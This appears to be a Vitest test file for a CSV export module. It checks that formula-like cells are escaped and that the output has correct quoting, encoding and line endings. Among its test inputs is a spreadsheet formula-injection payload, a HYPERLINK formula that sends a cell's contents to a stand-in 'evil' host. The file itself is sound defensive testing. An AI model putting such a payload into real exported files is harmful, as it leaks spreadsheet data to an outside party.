import { describe, expect, it } from 'vitest';
import { escapeCsvText, isFormulaLike, writeCsv } from '../../src/lib/csv-write.ts';

describe('CSV downloads', () => {
  it('prefixes every cell a spreadsheet would run as a formula', () => {
    const risky = [
      '=1+1',
      '@SUM(A1)',
      '+1',
      '-x',
      '\t=1',
      '\r=1',
      ' =1',
      '\u00a0=1',
      'note\n=1',
      '=1\nnote',
      '=HYPERLINK("http://evil/?"&A1,"Click")',
    ];
    for (const text of risky) expect(isFormulaLike(text), JSON.stringify(text)).toBe(true);
    for (const text of ['micro', '2.4%', 'a=b', 'note: fine']) expect(isFormulaLike(text), text).toBe(false);
    expect(escapeCsvText('=1+1')).toBe("'=1+1");
    expect(escapeCsvText('note\n=1')).toBe('"\'note\n=1"');
    expect(escapeCsvText(' =1')).toBe("' =1");
    expect(escapeCsvText('say "hi", ok')).toBe('"say ""hi"", ok"');
  });
  it('writes UTF-8 with a byte order mark and CRLF, numbers as numbers', () => {
    expect(
      writeCsv(
        ['year', 'tier', 'value', 'note'],
        [
          [2016, 'micro', -5, null],
          [2017, '-5', 2.4, 'Zürich'],
        ],
      ),
    ).toBe("\uFEFFyear,tier,value,note\r\n2016,micro,-5,\r\n2017,'-5,2.4,Zürich\r\n");
  });
});
